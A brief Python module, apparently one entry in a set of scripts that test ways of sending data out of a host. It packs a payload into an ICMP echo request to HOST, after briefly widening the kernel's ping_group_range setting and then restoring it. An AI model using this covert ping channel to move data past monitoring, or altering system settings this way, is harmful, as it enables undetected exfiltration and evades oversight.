"""Data in a ping, through an ICMP datagram socket (`ping_group_range` lets everybody in)."""
from way import *

RANGE = "/proc/sys/net/ipv4/ping_group_range"


def way():
    icmp = opened()
    icmp.sendto(struct.pack("!BBHHH", 8, 0, 0, 0, 1) + WORD, (HOST, 0))


def opened():
    # A network namespace of ours would do as well: the range is open there by default.
    before = open(RANGE).read()
    open(RANGE, "w").write("0 2147483647")
    try:
        return socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    finally:
        # An empty range reads "1 0", and is written as such.
        open(RANGE, "w").write(before)


told(way)
